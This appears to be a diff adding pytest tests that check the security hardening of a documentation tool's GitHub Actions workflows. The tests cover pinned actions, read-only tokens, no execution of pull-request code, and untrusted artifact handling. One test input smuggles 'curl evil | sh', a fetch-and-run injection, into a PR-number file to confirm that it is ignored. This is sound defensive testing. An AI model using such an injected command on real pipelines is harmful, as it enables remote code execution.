@@ -358,3 +358,153 @@ def test_the_pre_commit_hook(tmp_path: Path) -> None:
                           capture_output=True, text=True)
     assert proc.returncode in (0, 1), proc.stderr
     assert "error(s)" in proc.stdout
+
+
+# -- the documented workflows -------------------------------------------------------------------
+
+def test_every_action_used_is_pinned_to_a_commit_and_none_is_the_pull_requests() -> None:
+    for name, node in (("action.yml", ACTION), ("fwdoc-check.yml", CHECK), ("fwdoc-comment.yml", COMMENT)):
+        used = _uses(node)
+        assert used, name
+        for uses in used:
+            assert not uses.startswith("."), f"{name}: {uses} runs the checkout's own code"
+            assert PINNED.fullmatch(uses), f"{name}: {uses} is not pinned to a 40-hex commit SHA"
+    text = "".join((ROOT / f).read_text(encoding="utf-8") for f in
+                   ("action.yml", "docs/workflows/fwdoc-check.yml", "docs/workflows/fwdoc-comment.yml"))
+    # upload-sarif on a supported major version, and each pin says which release it is
+    for line in text.splitlines():
+        if re.match(r"\s*(- )?uses:", line):
+            assert re.search(r"@[0-9a-f]{40}\s+# v\d+\.\d+\.\d+$", line), line
+    assert re.search(r"upload-sarif@[0-9a-f]{40}\s+# v([3-9]|\d\d)\.", text)
+
+
+def _permissions(node: dict[str, Any]) -> dict[str, str]:
+    value = node.get("permissions", {})
+    assert isinstance(value, dict), "permissions must be listed, never read-all/write-all"
+    return value
+
+
+def test_the_check_job_holds_a_read_only_token_and_never_runs_the_pull_requests_code() -> None:
+    on = _on(CHECK)
+    assert set(on) == {"pull_request", "pull_request_review"}  # never pull_request_target
+    [job] = CHECK["jobs"].values()
+    for scope in (CHECK, job):
+        assert _permissions(scope) and set(_permissions(scope).values()) == {"read"}
+    steps = job["steps"]
+    [checkout] = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
+    assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha }}"
+    assert checkout["with"]["persist-credentials"] is False and checkout["with"]["fetch-depth"] == 0
+    [judge] = [s for s in steps if "pip install" in s.get("run", "")]
+    assert 'git archive --format=tar "$BASE_SHA"' in judge["run"]
+    assert job["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"
+    for step in steps:  # nothing installs or runs the working tree's copy
+        run = step.get("run", "")
+        assert not re.search(r"pip install[^\n]*(\s\.(\s|$)|-e\s|\$GITHUB_WORKSPACE|github\.workspace)", run)
+        assert "python -m checker" not in run and "./" not in run.replace("$RUNNER_TEMP/", "")
+    [upload] = [s for s in steps if s.get("uses", "").startswith("actions/upload-artifact@")]
+    assert upload["if"] == "always()" and upload["with"]["name"] == "fwdoc-report"
+
+
+def test_the_comment_job_runs_on_workflow_run_and_runs_no_code_of_the_pull_request() -> None:
+    on = _on(COMMENT)
+    assert list(on) == ["workflow_run"]
+    assert on["workflow_run"] == {"workflows": [CHECK["name"]], "types": ["completed"]}
+    assert _permissions(COMMENT) == {"contents": "read"}
+    [job] = COMMENT["jobs"].values()
+    assert _permissions(job)["pull-requests"] == "write" and _permissions(job)["security-events"] == "write"
+    assert "github.event.workflow_run.event == 'pull_request'" in job["if"]
+    used = [s["uses"].split("@")[0] for s in job["steps"] if "uses" in s]
+    assert used == ["actions/download-artifact", "github/codeql-action/upload-sarif"]  # no checkout
+    download = job["steps"][0]["with"]
+    assert download["run-id"] == "${{ github.event.workflow_run.id }}" and download["name"] == "fwdoc-report"
+    sarif = job["steps"][-1]["with"]
+    assert sarif["ref"] == "refs/pull/${{ steps.pr.outputs.number }}/head"
+    assert sarif["sha"] == "${{ github.event.workflow_run.head_sha }}"
+
+
+def _workflow_runner(workflow: dict[str, Any], workspace: Path, temp: Path, github: dict[str, str],
+                     gh_state: dict[str, Any]) -> Runner:
+    [job] = workflow["jobs"].values()
+    runner = Runner(job["steps"], workspace, temp, github, gh_state=gh_state)
+    runner.env = {k: runner.expand(str(v)) for k, v in job.get("env", {}).items()}
+    return runner
+
+
+def test_the_check_workflow_on_a_pull_request(tmp_path: Path) -> None:
+    """The check job's own steps (fwdoc is installed here already: the judge's install step is
+    checked above), on a real pull-request checkout: the report it leaves for the comment job."""
+    repo = pull_request(tmp_path, ("permanent_secretary", "director_general"), "C",
+                        holders={"permanent_secretary": ["ps-login"], "director_general": ["dg-login"]})
+    head = repo.git("rev-parse", "HEAD").strip()
+    base = repo.git("rev-parse", "main").strip()
+    github = {"event.pull_request.number": "12", "event.pull_request.head.sha": head,
+              "event.pull_request.base.sha": base}
+    reviews = {"repos/org/repo/pulls/12/reviews": [review("ps-login", head), review("dg-login", head)]}
+    runner = _workflow_runner(CHECK, repo.root, tmp_path / "t", github, reviews)
+    judge = next(s["name"] for s in runner.steps_spec if "pip install" in s.get("run", ""))
+    assert runner.run(skip={judge}), runner.log
+    report = runner.temp / "fwdoc-report"
+    assert (report / "pr-number").read_text() == "12\n" and (report / "head-sha").read_text() == f"{head}\n"
+    comment = (report / "comment.md").read_text(encoding="utf-8")
+    assert comment.startswith("## ✅ fwdoc amend: acceptable") and "2 of 2 required, 2 verified" in comment
+    assert sorted(p.name for p in (report / "sarif").iterdir()) == ["fwdoc-amend.sarif", "fwdoc-check.sarif"]
+    assert json.loads((report / "amend.json").read_text())["verification"]["require_verified"] is True
+    assert runner.uses[-1]["with"]["path"] == str(report)
+    # a holder's approval of an earlier commit: the check fails, the report is still left
+    reviews["repos/org/repo/pulls/12/reviews"][1]["commit_id"] = base
+    runner = _workflow_runner(CHECK, repo.root, tmp_path / "t2", github, reviews)
+    assert not runner.run(skip={judge})
+    assert runner.log[-1][0] == "Verdict" and "fwdoc amend exited 1" in runner.log[-1][2]
+    assert "REV001" in (runner.temp / "fwdoc-report" / "comment.md").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("number, api_head, posted", [
+    ("12\n", "HEAD", "POST"),
+    ("12\n", "OTHER", None),  # the pull request moved on, or the number was forged: nothing posted
+    ("12; curl evil | sh\n", "HEAD", "POST"),  # only the digits are read
+    ("not a number\n", "HEAD", None),
+    (None, "HEAD", None),  # the check left no report
+])
+def test_the_comment_workflow_trusts_nothing_in_the_artifact(tmp_path: Path, number: str | None, api_head: str,
+                                                            posted: str | None) -> None:
+    workspace = tmp_path / "ws"
+    report = workspace / "report"
+    (report / "sarif").mkdir(parents=True)
+    if number is not None:
+        (report / "pr-number").write_text(number, encoding="utf-8")
+    (report / "comment.md").write_text("## ✅ fwdoc amend: acceptable\n" + "x" * 70000, encoding="utf-8")
+    (report / "sarif" / "fwdoc-amend.sarif").write_text("{}", encoding="utf-8")
+    run_head = "c" * 40
+    state = {"repos/org/repo/pulls/12": {"head": {"sha": run_head if api_head == "HEAD" else "d" * 40}},
+             "repos/org/repo/issues/12/comments": []}
+    github = {"event.workflow_run.head_sha": run_head, "event.workflow_run.id": "99",
+              "event.workflow_run.event": "pull_request"}
+    runner = _workflow_runner(COMMENT, workspace, tmp_path / "t", github, state)
+    assert runner.run(), runner.log
+    calls = runner.posted()
+    if posted is None:
+        assert calls == [] and runner.uses[-1]["uses"].startswith("actions/download-artifact")
+        return
+    [call] = calls
+    assert call["method"] == posted and call["path"] == "repos/org/repo/issues/12/comments"
+    assert call["body"].startswith("<!-- fwdoc-amend -->\n## ✅ fwdoc amend: acceptable")
+    assert len(call["body"].encode()) <= 60000 + 100  # GitHub refuses comments over 65,536 characters
+    assert runner.uses[-1]["with"]["ref"] == "refs/pull/12/head" and runner.uses[-1]["with"]["sha"] == run_head
+
+
+def test_the_comment_workflow_updates_its_own_comment(tmp_path: Path) -> None:
+    workspace = tmp_path / "ws"
+    (workspace / "report").mkdir(parents=True)
+    (workspace / "report" / "pr-number").write_text("12\n", encoding="utf-8")
+    (workspace / "report" / "comment.md").write_text("## ❌ fwdoc amend: not acceptable\n", encoding="utf-8")
+    state = {"repos/org/repo/pulls/12": {"head": {"sha": "c" * 40}},
+             "repos/org/repo/issues/12/comments": [
+                 {"id": 5, "user": {"login": "mallory"}, "body": "<!-- fwdoc-amend -->\n## ✅ fwdoc amend: acceptable"},
+                 {"id": 6, "user": {"login": "github-actions[bot]"}, "body": "<!-- fwdoc-amend -->\nold"}]}
+    runner = _workflow_runner(COMMENT, workspace, tmp_path / "t",
+                              {"event.workflow_run.head_sha": "c" * 40, "event.workflow_run.id": "1"}, state)
+    assert runner.run(), runner.log
+    [call] = runner.posted()
+    assert call["method"] == "PATCH" and call["path"] == "repos/org/repo/issues/comments/6"  # never mallory's
+    assert "hashFiles" not in json.dumps(runner.uses) and [u["uses"].split("@")[0] for u in runner.uses] == [
+        "actions/download-artifact"]  # no SARIF in the report: no upload
